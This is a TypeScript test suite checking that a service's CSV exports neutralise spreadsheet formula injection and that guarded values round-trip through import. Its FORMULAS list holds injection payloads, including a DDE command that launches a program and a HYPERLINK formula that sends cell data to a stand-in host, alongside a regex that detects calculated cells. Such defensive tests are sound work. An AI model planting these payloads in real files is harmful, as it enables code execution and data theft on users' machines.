import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { guarded, unguarded } from '../../src/bulk/csv-text.ts'
import { csvCells } from '../../src/bulk/rows/csv-cells.ts'
import { errorLines, imported } from '../bulk/importing.ts'
import { seedOf } from '../support/seed.ts'
import { startService } from '../support/service.ts'

const { api, addAccount } = await startService()

/** As spreadsheets see the beginning of a cell. */
const IS_CALCULATED = /^([=@＝＠\t\r\n]|[+＋－-](?![\d ().-]*$))/

const FORMULAS = [
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("http://example.com?"&A1,"x")',
  '@SUM(1+1)',
  '+cmd|x!A0',
  '-2+3+cmd|x!A0',
  '\t=1',
  '\r=1',
  '＝1+1',
  '－a',
]
const KEPT = ['+7 (921) 314-60-28', '+79213146028', '-12.5', '- - -', 'a=b', "'quoted'", "O'Neil", '']
const ODD = ["'=1", "''=1", "'+7", "'"]

test('no cell of an export is a formula, and those that cannot be one are as they were', async () => {
  const { api } = await addAccount()
  for (const text of [...FORMULAS, ...KEPT])
    await api.create('contacts', { 'first-name': 'A', 'last-name': 'B', description: text })
  await api.create('contacts', { 'first-name': 'A', 'last-name': 'B', 'initial-balance': '-5.5' })
  const { text } = await api.get('/contacts/export?format=csv&fields[contacts]=description,initial-balance')
  const rows = text
    .split(/\r\n(?=\d)/)
    .slice(1)
    .map((row) => csvCells(row.replace(/\r\n$/, '')))
  for (const cells of rows) for (const cell of cells) assert.doesNotMatch(cell ?? '', IS_CALCULATED)
  const descriptions = rows.map(([, description]) => description)
  assert.deepEqual(
    descriptions.slice(0, FORMULAS.length),
    FORMULAS.map((formula) => `'${formula}`),
  )
  assert.deepEqual(descriptions.slice(FORMULAS.length, -1), KEPT)
  assert.equal(rows.at(-1)![2], '-5.5')
})

test('exact=true and NDJSON have the text itself', async () => {
  const { api } = await addAccount()
  await api.create('constants', { name: '=1+1' })
  const query = 'fields[constants]=name'
  assert.match((await api.get(`/constants/export?format=csv&${query}`)).text, /,'=1\+1\r\n$/)
  assert.match((await api.get(`/constants/export?format=csv&exact=true&${query}`)).text, /,=1\+1\r\n$/)
  assert.match((await api.get(`/constants/export?${query}`)).text, /"name":"=1\+1"/)
  const refused = await api.get('/constants/export?exact=maybe')
  assert.equal(refused.status, 400)
  assert.deepEqual(refused.document.errors[0].source, { parameter: 'exact' })
})

test('what is exported is imported as it was, whatever stands in it', async () => {
  const [from, to] = [await addAccount(), await addAccount()]
  const texts = [...FORMULAS, ...KEPT, ...ODD]
  for (const [index, text] of texts.entries())
    await from.api.create('constants', { name: `N${index}`, value: text })
  const file = await from.api.get('/constants/export?format=csv&fields[constants]=name,value&sort=id')
  assert.equal((await imported(to.api, '/constants/import', file.text)).created, texts.length)
  const { document } = await to.api.get('/constants?page[size]=100&sort=id')
  assert.deepEqual(
    document.data.map(({ attributes }: { attributes: { value: string } }) => attributes.value),
    texts,
  )
})

test('every text can be guarded and comes back, and none that is guarded is calculated', () => {
  const start = fc.constantFrom('', "'", "''", '=', '+', '-', '@', '\t', '\r', '\n', '＝', '+7', '-1')
  fc.assert(
    fc.property(start, fc.string(), (beginning, rest) => {
      const text = beginning + rest
      assert.equal(unguarded(guarded(text)), text)
      assert.doesNotMatch(guarded(text)!, IS_CALCULATED)
    }),
    { seed: seedOf(1) },
  )
})

test('the file of errors has no formula either', async () => {
  const job = await imported(api, '/contacts/import', 'birthdate,last-name\n=1+1,@x\n')
  assert.equal(job.failed, 1)
  for (const line of await errorLines(api, job.id))
    for (const cell of csvCells(line)) assert.doesNotMatch(cell ?? '', IS_CALCULATED)
})
